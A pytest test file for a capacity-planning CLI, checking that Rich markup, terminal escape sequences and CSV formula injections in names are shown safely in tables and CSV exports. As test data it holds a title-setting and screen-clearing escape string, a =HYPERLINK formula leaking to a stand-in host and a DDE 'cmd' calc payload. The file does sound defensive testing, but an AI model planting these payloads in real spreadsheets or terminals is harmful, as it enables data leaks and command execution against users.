"""Hostile names in outputs (issue 26 items 4 and 5): Rich markup is shown as written and
never crashes a table, terminal escapes are neutralised in the Rich and the plain tables,
and no CSV field starts a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

import simfiles
from conftest import run_cli
from tierplan.reports.diff import diff_plans
from tierplan.reports.diffview import diff_table
from tierplan.reports.planfile import load_plan_file
from tierplan.reports.render import to_table
from tierplan.reports.safe import clean, csv_text, csv_value

ESC = "\x1b]0;pwned\x07\x1b[2J"  # set the window title, clear the screen
MARKUP = ["[/]", "[/bold]", "[red]x[/red]"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak","x")', "+SUM(1,2)", "@SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0", "\tx", "\rx"]


def hostile_scenario(price: float = 1.0) -> dict:
    """Every name a table shows is hostile: markup, escapes and formulas."""
    sites = [{"name": name, "tier": "cloud", "provider": FORMULAS[2], "location": {"lat": 48.1, "lon": 11.6},
              "offerings": [{"name": FORMULAS[1], "accelerator": "L4", "accelerator_count": 1,
                             "usd_per_hour": price}]}
             for name in ("[/]", "site" + ESC)]
    workloads = [{"name": name, "kind": "inference", "team": "[/bold]",
                  "accelerators": {"L4": {"rps": 10, "latency_ms": 20}},
                  "demand_rps": {FORMULAS[3]: 5}, "latency_slo_ms": 100}
                 for name in (MARKUP[2], FORMULAS[0])]
    return {"name": "[/]hostile" + ESC, "horizon_hours": 730, "sites": sites,
            "clients": [{"name": FORMULAS[3], "location": {"lat": 48.1, "lon": 11.6}}],
            "workloads": workloads}


def write(tmp_path: Path, name: str, data: dict) -> Path:
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data))  # safe_dump writes ESC as an escape
    return path


def assert_neutral(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in text


def test_clean_shows_control_and_bidi_characters_as_escapes():
    assert clean("a\x1b[31mb\u202ec\x9bd\te") == "a\\x1b[31mb\\u202ec\\x9bd\\x09e"
    assert clean("ünïcode 名前 [red]x[/red]") == "ünïcode 名前 [red]x[/red]"


@pytest.mark.parametrize("width", [None, 250])
def test_plan_tables_show_hostile_names_as_written(tmp_path, capsys, width):
    path = write(tmp_path, "s.yaml", hostile_scenario())
    code, out, err = run_cli(capsys, "plan", path, "--format", "json")
    assert code == 0, err
    text = to_table(json.loads(out), width)
    for name in [*MARKUP, FORMULAS[0], "[/]hostile"]:
        assert name in text
    assert_neutral(text)


def test_plan_table_through_the_cli_when_piped(tmp_path, capsys):
    code, out, err = run_cli(capsys, "plan", write(tmp_path, "s.yaml", hostile_scenario()))
    assert code == 0, err
    assert "[red]x[/red]" in out
    assert_neutral(out)


def plan_json(tmp_path: Path, capsys, name: str, price: float) -> Path:
    out = tmp_path / f"{name}.json"
    code, _, err = run_cli(capsys, "plan", write(tmp_path, f"{name}.yaml", hostile_scenario(price)),
                           "--format", "json", "-o", out)
    assert code == 0, err
    return out


@pytest.mark.parametrize("width", [None, 250])
def test_diff_tables_show_hostile_names_as_written(tmp_path, capsys, width):
    old, new = plan_json(tmp_path, capsys, "old", 1.0), plan_json(tmp_path, capsys, "new", 2.0)
    text = diff_table(diff_plans(load_plan_file(old), load_plan_file(new)), width)
    assert "[red]x[/red]" in text and "[/]" in text
    assert_neutral(text)
    code, out, err = run_cli(capsys, "diff", old, new)
    assert code == 0, err
    assert "[red]x[/red]" in out
    assert_neutral(out)


def test_catalog_table_and_csv_with_hostile_rows(tmp_path, capsys):
    header = ("provider,region,instance_type,vcpus,memory_gib,accelerator,accelerator_count,"
              "accelerator_memory_gib,usd_per_hour,spot_usd_per_hour,available,lat,lon,jurisdiction,"
              "egress_usd_per_gb,source,as_of\n")
    rows = [["aws", "us-east-1", name, 8, 32, "L4", 1, 24, 1.5, "", "", 38.9, -77.4, "US", 0.09,
             "src" + ESC, "2026-11-23"] for name in ["[/]", "[red]x[/red]", *FORMULAS[:4]]]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path = tmp_path / "catalog.csv"
    path.write_text(header + buf.getvalue())
    code, out, err = run_cli(capsys, "catalog", "offerings", "--catalog", path)
    assert code == 0, err
    assert "[red]x[/red]" in out and "[/]" in out and "\x1b" not in out
    code, out, err = run_cli(capsys, "catalog", "offerings", "--catalog", path, "--format", "csv")
    assert code == 0, err
    assert_no_formula(out)
    types = [r["instance_type"] for r in csv.DictReader(io.StringIO(out))]
    assert "'" + FORMULAS[0] in types and "[/]" in types


def assert_no_formula(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            if field[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(field)  # only a plain number may start so


def test_plan_csv_neutralises_formulas_and_keeps_numbers(tmp_path, capsys):
    code, out, err = run_cli(capsys, "plan", write(tmp_path, "s.yaml", hostile_scenario()), "--format", "csv")
    assert code == 0, err
    assert_no_formula(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["workload"] for r in rows} == {MARKUP[2], "'" + FORMULAS[0]}
    assert all(r["offering"] == "'+SUM(1,2)" and r["provider"] == "'@SUM(1,2)" for r in rows)
    assert all(float(r["cost_usd"]) > 0 for r in rows)


def test_csv_value_keeps_numbers_and_quotes_formulas():
    assert csv_value(-3.5) == -3.5 and csv_value("-3.5") == "-3.5" and csv_value("+1e3") == "+1e3"
    assert csv_value(True) == "True" and csv_value(None) == ""
    assert [csv_value(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert csv_text(["a", "b"], [{"a": "=1+1", "b": -2}]) == "a,b\n'=1+1,-2\n"


def test_simulate_table_and_csv_outputs_with_hostile_policy_names(tmp_path, capsys):
    sim = {"duration": "10m", "demand": [{"workload": "web", "client": "c",
                                          "pattern": {"kind": "step", "base_rps": 5}}],
           "policies": [{"kind": "static", "name": name} for name in ("[/]", FORMULAS[0] + ESC)]}
    path = simfiles.write(tmp_path, sim)
    out_dir = tmp_path / "out"
    code, out, err = simfiles.cli_run(capsys, "simulate", str(path), "-o", str(out_dir))
    assert code == 0, err
    assert "[/]" in out and "\x1b" not in out
    for name in ("summary.csv", "timeseries.csv"):
        text = (out_dir / name).read_text()
        assert_no_formula(text)
        policies = {r["policy"] for r in csv.DictReader(io.StringIO(text))}
        assert policies == {"[/]", "'" + FORMULAS[0] + ESC}
